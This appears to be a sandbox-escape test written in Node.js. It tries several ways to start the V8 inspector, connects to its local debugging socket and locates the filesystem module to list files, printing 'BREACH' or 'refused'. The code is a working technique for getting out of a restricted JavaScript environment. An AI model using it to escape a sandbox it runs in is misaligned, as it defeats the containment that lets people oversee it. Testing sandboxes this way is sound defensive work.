// SIGUSR1 starts the inspector on port 9229. It evaluates anything, and finds every object with a given prototype.
const http = require('http');
for (const kill of [() => process.kill(process.pid, 'SIGUSR1'), () => process._kill(process.pid, 10), () => process._debugProcess(process.pid)]) {
    try { kill(); } catch (error) { console.log(`refused: ${error.code || error.name}`); }
}
// As if a listener had been there, and taken away again.
const listener = () => {};
process.on('SIGUSR1', listener);
process.off('SIGUSR1', listener);
process.kill(process.pid, 0);

const frame = (text) => {
    const data = Buffer.from(text);
    const head = data.length < 126 ? Buffer.from([0x81, 0x80 | data.length]) : Buffer.from([0x81, 0x80 | 126, data.length >> 8, data.length & 255]);
    return Buffer.concat([head, Buffer.alloc(4), data]);
};
const finish = (why) => { console.log(why); console.log('tried the inspector'); process.exit(0); };
const find = `function () {
    const get = (object, key) => { try { return object[key] } catch {} };
    globalThis.found = this.find((object) => get(object, 'readdirSync') && get(object, 'writeFileSync'));
}`;
function talk(socket) {
    let number = 0;
    let buffer = Buffer.alloc(0);
    const send = (method, params) => socket.write(frame(JSON.stringify({ id: ++number, method, params })));
    socket.on('data', (data) => {
        buffer = Buffer.concat([buffer, data]);
        for (;;) {
            if (buffer.length < 4) return;
            let length = buffer[1] & 127;
            let start = 2;
            if (length === 126) { length = buffer.readUInt16BE(2); start = 4; }
            else if (length === 127) { length = Number(buffer.readBigUInt64BE(2)); start = 10; }
            if (buffer.length < start + length) return;
            let message = {};
            try { message = JSON.parse(buffer.subarray(start, start + length)); } catch {}
            buffer = buffer.subarray(start + length);
            if (message.id === 1) send('Runtime.queryObjects', { prototypeObjectId: message.result.result.objectId });
            if (message.id === 2) send('Runtime.callFunctionOn', { objectId: message.result.objects.objectId, functionDeclaration: find });
            if (message.id === 3) finish(`BREACH: the inspector found ${globalThis.found && globalThis.found.readdirSync('/').length} files`);
        }
    });
    send('Runtime.evaluate', { expression: 'Object.prototype' });
}
function connect(left) {
    http.get('http://127.0.0.1:9229/json', (response) => {
        let text = '';
        response.on('data', (data) => { text += data; });
        response.on('end', () => {
            const path = JSON.parse(text)[0].webSocketDebuggerUrl.replace(/^ws:..[^/]*/, '');
            const headers = { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Key': 'AAAAAAAAAAAAAAAAAAAAAA==', 'Sec-WebSocket-Version': 13 };
            const request = http.request({ port: 9229, host: '127.0.0.1', path, headers });
            request.on('error', (error) => finish(`refused: ${error.code}`));
            request.on('upgrade', (_, socket) => talk(socket));
            request.end();
        });
    }).on('error', (error) => (left ? setTimeout(connect, 200, left - 1) : finish(`refused: ${error.code}`)));
}
setTimeout(connect, 200, 3);
